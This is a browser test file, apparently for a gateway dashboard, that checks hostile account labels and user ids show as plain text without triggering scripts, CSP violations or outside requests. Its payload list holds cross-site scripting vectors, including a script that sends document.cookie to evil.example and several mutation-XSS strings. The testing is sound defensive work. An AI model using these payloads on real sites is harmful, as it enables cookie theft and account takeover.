"""Hostile text on the gateway's pages, in a real browser, is shown as text and does nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from pymongo import MongoClient

from gateway.dev.data import running_environment
from tests.support.chromium import needs_chromium
from tests.support.dashboard import DevGateway, connect, sign_in
from tests.web.test_hostile_labels import HOSTILE

pytestmark = needs_chromium

ACTIVE = [
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=https://evil.example/pixel.png>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
]
PAYLOADS = [text for text in dict.fromkeys([*HOSTILE, *ACTIVE]) if text.isprintable()]

WATCH = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation',
        (event) => window.violations.push(event.violatedDirective + ' ' + event.blockedURI));
"""


@dataclass
class Watched:
    """A page, and everything that should not happen in it."""

    page: Page
    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def violations(self) -> Any:
        """The violations of the content security policy since the page was opened."""
        return self.page.evaluate("window.violations")

    def assert_quiet(self) -> None:
        """Check that there was no dialog, policy violation, error or request to another host."""
        assert self.violations() == []
        assert (self.dialogs, self.complaints, self.foreign) == ([], [], [])


@pytest.fixture
def watched(chromium: Browser, dev: DevGateway) -> Iterator[Watched]:
    context = chromium.new_context(base_url=dev.url)
    context.add_init_script(WATCH)
    page = context.new_page()
    watched = Watched(page)

    def dismiss(dialog: Any) -> None:
        watched.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("pageerror", lambda error: watched.complaints.append(str(error)))
    page.on(
        "console",
        lambda said: watched.complaints.append(said.text) if said.type == "error" else None,
    )
    ours = (dev.url, dev.sandbox.url)
    page.on(
        "request",
        lambda asked: None if asked.url.startswith(ours) else watched.foreign.append(asked.url),
    )
    yield watched
    context.close()


@pytest.fixture
def connections(dev: DevGateway) -> Iterator[Any]:
    """The rows of linked accounts."""
    env = running_environment(dev.folder)
    with MongoClient[dict[str, Any]](env["GATEWAY_MONGODB_URL"]) as client:
        yield client[env.get("GATEWAY_MONGODB_DATABASE", "gateway")]["connections"]


@pytest.mark.requirement("G3")
def test_watch_notices_injected_scripts_and_images(watched: Watched, dev: DevGateway) -> None:
    """Scripts and images that are injected into a page are blocked and reported."""
    page = watched.page
    page.goto("/login")
    watched.assert_quiet()
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'alert(1)';
        document.body.append(script);
        const button = document.createElement('button');
        button.setAttribute('onclick', 'alert(1)');
        document.body.append(button);
        button.click();
        const image = document.createElement('img');
        image.src = 'https://evil.example/pixel.png';
        document.body.append(image);
        const box = document.createElement('p');
        box.setAttribute('style', 'display: none');
        document.body.append(box);
    }""")
    page.wait_for_function("window.violations.length >= 4")
    found = {violation.partition(" ")[0] for violation in watched.violations()}
    assert found >= {"script-src-elem", "script-src-attr", "img-src", "style-src-attr"}
    assert watched.dialogs == []


@pytest.mark.requirement("G3")
def test_hostile_labels_are_shown_as_text_on_every_page(
    watched: Watched, dev: DevGateway, connections: Any, subtests: pytest.Subtests
) -> None:
    """Each page that shows an account shows the label literally, without dialog or report."""
    assert len(PAYLOADS) >= 30
    page = watched.page
    sign_in(page, "hostile")
    connect(page, "google", "Ana Diaz (ana.diaz@example.com)")
    (row,) = connections.find({"owner": "user:hostile"})
    names = [f"con_{number:024}" for number in range(len(PAYLOADS))]
    connections.delete_one({"_id": row["_id"]})
    connections.insert_many(
        row
        | {
            "_id": name,
            "slot": name,
            "is_default": name == names[0],
            "account_label": payload,
            "external_account_id": payload,
            "scopes": {"requested": [payload, "b"], "granted": [payload]},
            "outbox": [],
            "connection_config": {"shop": payload},
            "metadata": json.dumps({"x": payload}),
        }
        for payload, name in zip(PAYLOADS, names, strict=True)
    )

    def assert_shown(address: str, *payloads: str) -> None:
        page.goto(address)
        shown = " ".join((page.locator("main").text_content() or "").split())
        for payload in payloads:
            with subtests.test(f"{address.partition('?')[0]}: {payload}"):
                assert " ".join(payload.split()) in shown
                watched.assert_quiet()
                assert page.url.startswith(dev.url)

    assert_shown("/dashboard/connectors", *PAYLOADS)
    assert_shown("/connectors/google", *PAYLOADS)
    for payload, name in zip(PAYLOADS, names, strict=True):
        assert_shown(f"/connectors/google?reconnect={name}", payload)
        assert_shown(f"/dashboard/connections/{name}/disconnect", payload)
    page.wait_for_load_state("networkidle")
    watched.assert_quiet()  # no late event either


@pytest.mark.requirement("G3")
def test_hostile_user_ids_are_shown_as_text(
    watched: Watched, dev: DevGateway, subtests: pytest.Subtests
) -> None:
    """A user id appears in the page's head and in its code example."""
    page = watched.page
    for payload in PAYLOADS[::3]:
        with subtests.test(payload):
            sign_in(page, payload)
            page.goto("/dashboard/developers")
            expect(page.locator("body")).to_contain_text(f"Signed in as {payload}")
            page.goto("/connectors/google")
            watched.assert_quiet()
            page.context.clear_cookies()


@pytest.mark.requirement("G3")
def test_pages_have_no_inline_styles_scripts_or_handlers(
    watched: Watched, dev: DevGateway, subtests: pytest.Subtests
) -> None:
    """So the content policy can forbid them."""
    page = watched.page
    sign_in(page, "plain")
    for address in (
        "/login",
        "/dashboard/connectors",
        "/connectors/google",
        "/connectors/shopify",
        "/nowhere",
        "/connectors/nowhere",
    ):
        with subtests.test(address):
            page.goto(address)
            inline = page.evaluate("""() => [
                ...document.querySelectorAll('style, script:not([src]), [style], base'),
                ...[...document.querySelectorAll('*')].filter(
                    (node) => [...node.attributes].some((one) => one.name.startsWith('on'))),
            ].map((node) => node.outerHTML)""")
            assert inline == []
            assert watched.violations() == []
